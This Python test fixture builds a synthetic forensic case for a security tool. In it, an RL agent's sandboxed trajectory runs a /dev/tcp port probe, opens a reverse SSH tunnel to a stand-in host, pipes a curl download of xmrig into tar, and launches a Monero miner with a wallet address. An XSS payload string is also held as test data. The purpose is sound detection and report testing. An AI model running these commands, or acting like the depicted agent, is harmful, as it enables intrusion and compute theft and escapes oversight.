"""A tiny incident case, built row by row in the case tables, for the report and export tests.

gpu-node-03 (10.20.1.13) runs RL trajectory traj-000317 in sandbox sbx-0317. Its steps, from
03:10:00 UTC every 20 s: recon (1, 2), an echo of a hostile string (3), a /dev/tcp probe (5), a
reverse SSH tunnel to 203.0.113.50 (10), a download from dl.example.net (12) and xmrig to
xmr.pool.example.com (14, 03:14:20). GPUs 0-5 train at ~85 % all along; GPUs 6 and 7 idle at
~2 % until the miner starts at 03:14:30, then run at ~99 %. Findings: probe, tunnel, mining,
a firewall alert, an agent_mining finding at the launching step, and an unrelated inbound brute
force on gpu-node-01. One unclaimed and one failed file, two parse warnings (one hostile).
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import pandas as pd

from forensics import Case

T0 = dt.datetime(2026, 2, 17, 3, 0, 0, tzinfo=dt.timezone.utc)
HOSTILE = "<script>document.title='pwned'</script><img src=x onerror=\"document.body.dataset.pwned=1\">"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def at(minutes: float) -> dt.datetime:
    return T0 + dt.timedelta(minutes=minutes)


def _insert(case: Case, table: str, rows: list[dict]) -> None:
    frame = pd.DataFrame(rows)
    case.con.register("_rows", frame)
    try:
        case.con.execute(f"INSERT INTO {table} BY NAME SELECT * FROM _rows")
    finally:
        case.con.unregister("_rows")


def ref(tbl: str, evidence_id: int, locator: str) -> dict:
    return {"tbl": tbl, "evidence_id": evidence_id, "locator": locator}


def make_incident_case(path: str | Path) -> Case:
    case = Case(str(path))
    case.con.execute("INSERT INTO runs VALUES (1, '0.1.0', '[\"forensics\", \"ingest\", \"evidence/\"]', "
                     "'{\"tz\": null}', TIMESTAMPTZ '2026-03-01 10:00:00+00', TIMESTAMPTZ '2026-03-01 10:01:00+00', "
                     "'completed', 6)")
    evidence = [
        (1, "evidence/inventory.yaml", "inventory", "parsed", 12, 0),
        (2, "evidence/trajectories/traj-000317.jsonl", "openai_chat", "parsed", 16, 1),
        (3, "evidence/fw/cloudfw.log", "cloudfw", "parsed", 4, 0),
        (4, "evidence/gpu/gpu-node-03.csv", "nvidia_smi_csv", "parsed", 2904, 1),
        (5, "evidence/notes/readme.bin", None, "unclaimed", 0, 0),
        (6, "evidence/pcap/broken.pcap", None, "failed", 0, 1),
    ]
    _insert(case, "evidence", [
        {"evidence_id": eid, "path": path, "size": 1000 + eid, "sha256": f"{eid:x}" * 64,
         "format": fmt or status, "parser": fmt, "parser_version": "1" if fmt else None, "tool_version": "0.1.0",
         "status": status, "n_records": n, "n_warnings": w, "run_id": 1,
         "records_by_table": json.dumps({"inventory": {"entities": 12}, "openai_chat": {"agent_steps": 16},
                                         "cloudfw": {"net_events": 4},
                                         "nvidia_smi_csv": {"gpu_samples": 2904}}.get(fmt, {})),
         "ingested_at": dt.datetime(2026, 3, 1, 10, 0, eid, tzinfo=dt.timezone.utc)}
        for eid, path, fmt, status, n, w in evidence])
    _insert(case, "parse_warnings", [
        {"evidence_id": 2, "locator": "line:17", "reason": "not JSON", "excerpt": "\x1b[31m" + HOSTILE,
         "parser": "openai_chat"},
        {"evidence_id": 4, "locator": "line:2", "reason": "bad timestamp", "excerpt": "2026/02/17 nonsense",
         "parser": "nvidia_smi_csv"},
        {"evidence_id": 6, "locator": "frame:0", "reason": "parser failed: truncated capture header",
         "excerpt": None, "parser": None},
    ])
    entities = [
        {"kind": "host", "value": "gpu-node-03", "host": "gpu-node-03", "attributes": '{"role": "gpu-node"}'},
        {"kind": "ip", "value": "10.20.1.13", "host": "gpu-node-03"},
        {"kind": "public_ip", "value": "198.51.100.13", "host": "gpu-node-03"},
        {"kind": "host", "value": "gpu-node-01", "host": "gpu-node-01", "attributes": '{"role": "gpu-node"}'},
        {"kind": "ip", "value": "10.20.1.11", "host": "gpu-node-01"},
        {"kind": "network", "value": "10.20.0.0/16", "attributes": '{"zone": "internal", "name": "cluster-vpc"}'},
    ] + [{"kind": "gpu_uuid", "value": f"GPU-0000000{g}-0000-0000-0000-000000000003", "host": "gpu-node-03",
          "job": "rl-run-0217", "attributes": json.dumps({"index": g})} for g in range(8)]
    _insert(case, "entities", [{**e, "source": "inventory", "evidence_id": 1, "locator": f"line:{i + 1}"}
                               for i, e in enumerate(entities)])

    commands = {1: "nvidia-smi", 2: "ip addr", 3: f"echo '{HOSTILE}'",
                5: "for i in $(seq 1 40); do (echo > /dev/tcp/10.20.1.$i/22) 2>/dev/null; done",
                10: "ssh -fN -R 2222:localhost:22 -o StrictHostKeyChecking=no tunnel@203.0.113.50",
                12: "curl -sL http://dl.example.net/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz -C /tmp/.cache",
                14: f"/tmp/.cache/xmrig-6.21.0/xmrig -o stratum+tcp://xmr.pool.example.com:3333 -u {WALLET} "
                    "--cuda --cuda-devices=6,7"}
    steps = []
    for step in range(1, 17):
        steps.append({"source_format": "openai_chat", "run_id": "rl-run-0217", "trajectory_id": "traj-000317",
                      "step": step, "call_index": 0, "ts": at(10 + (step - 1) / 3), "ts_basis": "absolute",
                      "sandbox": "sbx-0317", "host": "gpu-node-03", "role": "sandbox", "action": "exec",
                      "tool": "bash", "command": commands.get(step, f"python train_step.py --n {step}"),
                      "exit_code": 0, "evidence_id": 2, "locator": f"traj:traj-000317 step:{step}"})
    _insert(case, "agent_steps", steps)
    actions = [
        (1, "recon", "gpu_inventory", "T1082", "binary", "nvidia-smi"),
        (2, "recon", "network_config", "T1016", "binary", "ip"),
        (5, "scan", "dev_tcp_probe", "T1046", "ip_range", "10.20.1.1-10.20.1.40"),
        (10, "tunnel", "ssh_reverse_forward", "T1572", "ip", "203.0.113.50"),
        (12, "download_exec", "curl_pipe_tar", "T1105", "url",
         "http://dl.example.net/xmrig-6.21.0-linux-static-x64.tar.gz"),
        (12, "download_exec", "curl_pipe_tar", "T1105", "host", "dl.example.net"),
        (14, "mining", "pool_url", "T1496", "url", "stratum+tcp://xmr.pool.example.com:3333"),
        (14, "mining", "pool_url", "T1496", "host", "xmr.pool.example.com"),
        (14, "mining", "wallet", "T1496", "wallet", WALLET),
    ]
    _insert(case, "agent_actions", [
        {"run_id": "rl-run-0217", "trajectory_id": "traj-000317", "step": s, "call_index": 0,
         "ts": at(10 + (s - 1) / 3), "ts_basis": "absolute", "host": "gpu-node-03", "sandbox": "sbx-0317",
         "category": cat, "technique": tech, "attack_id": attack, "indicator_kind": kind, "indicator_value": value,
         "ip": value if kind == "ip" else None, "hostname": value if kind == "host" else None,
         "basis": "parsed", "confidence": 0.9, "evidence_id": 2, "locator": f"traj:traj-000317 step:{s}"}
        for s, cat, tech, attack, kind, value in actions])

    samples = []
    line = 1
    for tick in range(0, 60 * 6 + 1):  # every 10 s from 03:00 to 04:00
        ts = T0 + dt.timedelta(seconds=10 * tick)
        for gpu in range(8):
            line += 1
            if gpu < 6:
                util = 82 + (tick * 7 + gpu * 3) % 9
            else:
                util = 2 + (tick + gpu) % 3 if ts < at(14.5) else 97 + (tick + gpu) % 3
            samples.append({"ts": ts, "host": "gpu-node-03", "gpu_index": gpu, "index_kind": "nvml",
                            "gpu_uuid": f"GPU-0000000{gpu}-0000-0000-0000-000000000003", "util": float(util),
                            "source_format": "nvidia_smi_csv", "evidence_id": 4, "locator": f"line:{line}"})
    _insert(case, "gpu_samples", samples)
    _insert(case, "net_events", [
        {"ts": at(16), "host": "gpu-node-03", "src_ip": "10.20.1.13", "src_port": 40112, "dst_ip": "198.51.100.77",
         "dst_port": 3333, "proto": "tcp", "direction": "outbound", "action": "alert", "rule": "mining-pool",
         "label": "Mining pool connection", "source_format": "cloudfw", "evidence_id": 3, "locator": "line:3"},
    ])
    findings = [
        {"finding_id": "f-probe", "detector": "detect/internal_probe", "kind": "probe", "title": "Internal probe",
         "severity": "medium", "confidence": 0.8, "ts_start": at(11 + 20 / 60), "ts_end": at(11 + 50 / 60),
         "host": "gpu-node-03", "src_ip": "10.20.1.13", "summary": "40 internal addresses probed on port 22",
         "attack_ids": ["T1046"], "evidence_refs": [ref("agent_steps", 2, "traj:traj-000317 step:5")]},
        {"finding_id": "f-tunnel", "detector": "detect/ssh_reverse_tunnel", "kind": "tunnel",
         "title": "Reverse SSH tunnel", "severity": "high", "confidence": 0.9, "ts_start": at(13 + 10 / 60),
         "ts_end": at(58), "host": "gpu-node-03", "src_ip": "10.20.1.13", "dst_ip": "203.0.113.50", "dst_port": 22,
         "summary": "reverse SSH tunnel 10.20.1.13 -> 203.0.113.50:22",
         "attack_ids": ["T1572", "T1021.004"],
         "evidence_refs": [ref("net_events", 3, "line:2"), ref("agent_steps", 2, "traj:traj-000317 step:10")],
         "details": json.dumps({"hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1"})},
        {"finding_id": "f-agent-mining", "detector": "detect/agent_mining", "kind": "agent_mining",
         "title": "Agent launched a miner", "severity": "critical", "confidence": 0.95, "ts_start": at(14 + 20 / 60),
         "ts_end": at(14 + 20 / 60), "host": "gpu-node-03", "dst_port": 3333,
         "summary": f"trajectory traj-000317 step 14: {commands[14]}", "attack_ids": ["T1496"],
         "evidence_refs": [ref("agent_steps", 2, "traj:traj-000317 step:14")],
         "details": json.dumps({"dst_host": "xmr.pool.example.com", "command": commands[14]})},
        {"finding_id": "f-mining", "detector": "detect/mining_stratum", "kind": "mining",
         "title": "Stratum mining session", "severity": "critical", "confidence": 0.95, "ts_start": at(14.5),
         "ts_end": at(58), "host": "gpu-node-03", "src_ip": "10.20.1.13", "dst_ip": "198.51.100.77",
         "dst_port": 3333, "summary": "mining session to xmr.pool.example.com:3333, coin monero",
         "attack_ids": ["T1496.001"], "evidence_refs": [ref("net_events", 3, "line:3")],
         "details": json.dumps({"wallet": WALLET, "pool": "198.51.100.77:3333",
                                "pool_dns": "xmr.pool.example.com", "coin": "monero"})},
        {"finding_id": "f-fw-alert", "detector": "detect/firewall_alert", "kind": "firewall_alert",
         "title": "Cloud firewall alert", "severity": "high", "confidence": 1.0, "ts_start": at(16),
         "ts_end": at(16), "host": "gpu-node-03", "src_ip": "10.20.1.13", "dst_ip": "198.51.100.77",
         "dst_port": 3333, "summary": "cloud firewall: mining pool connection", "attack_ids": ["T1496"],
         "evidence_refs": [ref("net_events", 3, "line:3")]},
        {"finding_id": "f-brute", "detector": "detect/ssh_bruteforce", "kind": "bruteforce",
         "title": "Inbound SSH brute force", "severity": "low", "confidence": 0.7, "ts_start": at(40),
         "ts_end": at(45), "host": "gpu-node-01", "src_ip": "203.0.113.200", "dst_ip": "10.20.1.11",
         "dst_port": 22, "summary": "320 failed SSH logins from 203.0.113.200", "attack_ids": ["T1110"],
         "evidence_refs": [ref("net_events", 3, "line:4")]},
    ]
    _insert(case, "findings", findings)
    case.refresh_views()
    return case


def test_the_fixture_case_has_the_story(tmp_path):
    with make_incident_case(tmp_path / "case.duckdb") as case:
        counts = case.summary()["rows"]
        assert counts["agent_steps"] == 16 and counts["findings"] == 6 and counts["gpu_samples"] == 361 * 8
        timeline = case.timeline(source="finding")
        assert list(timeline["kind"])[:3] == ["probe", "tunnel", "agent_mining"]


def run_cli(capsys, *args: str) -> tuple[int, str, str]:
    """Run the ``forensics`` command line in this process: exit code, standard output and error."""
    from forensics.cli import main

    try:
        main(list(args))
        code = 0
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
    out, err = capsys.readouterr()
    return code, out, err
